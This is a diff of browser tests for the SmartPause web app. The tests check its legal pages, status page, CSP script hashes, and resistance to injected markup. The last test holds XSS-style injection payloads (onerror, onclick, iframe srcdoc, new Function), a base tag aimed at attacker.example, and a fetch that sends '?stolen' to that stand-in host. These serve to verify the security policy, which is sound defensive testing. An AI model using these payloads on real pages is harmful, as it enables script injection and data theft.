@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { PHONE, expect, test } from './support/fixtures.ts';
 
 const PROBLEMS = [
@@ -135,4 +136,133 @@ test('[LAND-01] link previews have a picture, a title and the address of SmartPa
   const png = await (await request.get(`${world.url}/social-card.png`)).body();
   expect([png.readUInt32BE(16), png.readUInt32BE(20)]).toEqual([1200, 630]);
   expect(png.length).toBeLessThan(300_000);
+});
+
+for (const [path, headings, texts] of [
+  [
+    '/terms',
+    ['Termination', 'Limitations', 'Governing law', 'Arbitration'],
+    [
+      /governed by the laws of the State of Illinois/,
+      /binding arbitration in Chicago, Illinois/,
+      /Emails for SmartPause actions are mandatory/,
+    ],
+  ],
+  [
+    '/privacy',
+    ['Who we share it with', 'How long we keep it', 'After a deletion'],
+    [
+      /Emails for SmartPause actions are mandatory/,
+      /For a copy of everything we store about you, write to smartpause@localhost\.localdomain\./,
+    ],
+  ],
+] as const)
+  test(`[ROUTE-10, FMT-03] ${path} has its date, its sections, the company and a contact`, async ({
+    nora,
+    page,
+  }) => {
+    await nora.opens(path);
+    await nora.sees('Last changed: November 27, 2026');
+    for (const name of headings) await expect(page.getByRole('heading', { level: 2, name })).toBeVisible();
+    for (const text of texts) await nora.sees(text);
+    const contact = page.getByRole('heading', { name: 'Contact' }).locator('..').getByRole('link');
+    await expect(contact).toHaveAttribute('href', 'mailto:smartpause@localhost.localdomain');
+  });
+
+test('[FMT-03] served by another server, the legal pages name only the product', async ({ nora, page }) => {
+  // Without what our server inserts.
+  await page.route('**/terms', async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.text()).replaceAll(/<meta name="smartpause-(company|contact)[^>]*>/g, '');
+    await route.fulfill({ response: answer, body });
+  });
+  await nora.opens('/terms');
+  await nora.sees('SmartPause (“we”) operates the SmartPause service.');
+  await nora.sees('Reply to any email that you have received from us.');
+  await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click();
+  await nora.sees(/For a copy of everything we store about you, reply to any email from us\./);
+});
+
+test.describe('without a script, on a phone', () => {
+  test.use({ javaScriptEnabled: false, viewport: PHONE });
+
+  test('[HIST-06] the status page is reached from the landing page', async ({ page, world }) => {
+    await page.goto(world.url);
+    await page.getByRole('contentinfo').getByRole('link', { name: 'Meta status' }).click();
+    await expect(page.getByRole('heading', { level: 1, name: 'Meta ad delivery: Up' })).toBeVisible();
+    expect(new URL(page.url()).pathname).toBe('/status');
+    const delivery = page.getByRole('row', { name: /^Ads Delivery/ });
+    await expect(delivery).toContainText(/SmartPause acts on this[^]*Up/);
+    await expect(page.getByRole('img', { name: 'Last 90 days of ad delivery' })).toBeVisible();
+    await expect(page.getByRole('listitem').filter({ hasText: 'adstatus.app' }).first()).toBeVisible();
+    await page.getByRole('link', { name: 'SmartPause home' }).click();
+    await expect(page.getByRole('link', { name: 'Start Free Trial' }).first()).toBeVisible();
+  });
+});
+
+test('[HIST-06] the status page shows an outage with shape, word and table, by keyboard too', async ({
+  page,
+  world,
+}) => {
+  await world.reports('High disruptions');
+  await page.goto(`${world.url}/status`);
+  await expect(
+    page.getByRole('heading', { level: 1, name: 'Meta ad delivery: High disruption' }),
+  ).toBeVisible();
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect.poll(() => page.evaluate('document.activeElement.id')).toBe('content');
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('row', { name: /\d{4} High disruption/ })).toBeVisible();
+  const fonts = await page.evaluate<string[]>('[...document.fonts].map(({ status }) => status)');
+  expect(fonts).toEqual(['loaded']);
+});
+
+for (const path of ['/', '/terms', '/nowhere'])
+  test(`${path} has one inline script, by its hash`, async ({ world }) => {
+    const answer = await fetch(world.url + path);
+    const html = await answer.text();
+    const policy = answer.headers.get('content-security-policy') ?? '';
+    const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
+    const inline = scripts.filter(([, attributes]) => attributes === '');
+    const hashes = inline.map(([, , code = '']) => createHash('sha256').update(code).digest('base64'));
+    expect(policy).toContain(`script-src 'self' 'sha256-${hashes.join()}';`);
+    expect(scripts.length).toBeGreaterThan(1);
+    for (const [, attributes, code] of scripts.filter((script) => !inline.includes(script))) {
+      expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
+    }
+    expect(html).not.toMatch(/<[^>]+\son\w+=|javascript:/);
+  });
+
+test('injected markup and scripts have no effect', async ({ page, world }) => {
+  for (const path of ['/', '/terms']) {
+    await page.goto(world.url + path);
+    await expect(page.getByRole('contentinfo')).toBeVisible();
+    // Each attack records what the browser allowed.
+    const done = await page.evaluate<string[]>(`(async () => {
+          const done = [];
+          // What runs in the evaluation itself may do more than the page.
+          await new Promise(requestAnimationFrame);
+          globalThis.note = (what) => done.push(what);
+          const attempt = (act) => { try { act(); } catch {} };
+          const put = (name, fields) => {
+            const element = Object.assign(document.createElement(name), fields);
+            document.body.append(element);
+            return element;
+          };
+          attempt(() => put('script', { textContent: 'note("inline script")' }));
+          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
+          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
+          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
+          attempt(() => new Function('note("code from text")')());
+          attempt(() => put('base', { href: 'https://attacker.example/' }));
+          if (!document.baseURI.startsWith(location.origin)) note('base');
+          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
+          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
+          await new Promise(requestAnimationFrame);
+          return done;
+        })()`);
+    expect(done, path).toEqual([]);
+  }
 });
